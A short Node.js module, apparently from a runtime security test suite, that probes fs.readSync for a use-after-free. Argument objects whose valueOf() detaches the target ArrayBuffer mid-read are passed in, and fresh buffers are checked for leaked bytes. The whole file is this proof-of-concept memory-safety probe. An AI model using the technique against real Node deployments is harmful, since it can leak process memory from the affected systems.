// Takes a buffer's memory away while the engine reads a file into it, and after.
const fs = require('fs');
exports.attack = (to) => {
  const file = fs.openSync(to.readable, 'r');
  let stale = 0;
  for (let round = 0; round < 200; round++) {
    const memory = new ArrayBuffer(4096, { maxByteLength: 8192 });
    const view = new Uint8Array(memory);
    const leave = { valueOf() { memory.transfer?.(0); return 0; } };
    for (const args of [[view, leave, 4096, 0], [view, 0, leave, 0], [view, 0, 4096, leave], [view, { offset: leave }]]) {
      try {
        fs.readSync(file, ...args);
      } catch {
        // Held.
      }
    }
    const other = new Uint8Array(4096);
    stale += other.some((byte) => byte !== 0);
  }
  fs.closeSync(file);
  return stale > 0;
};
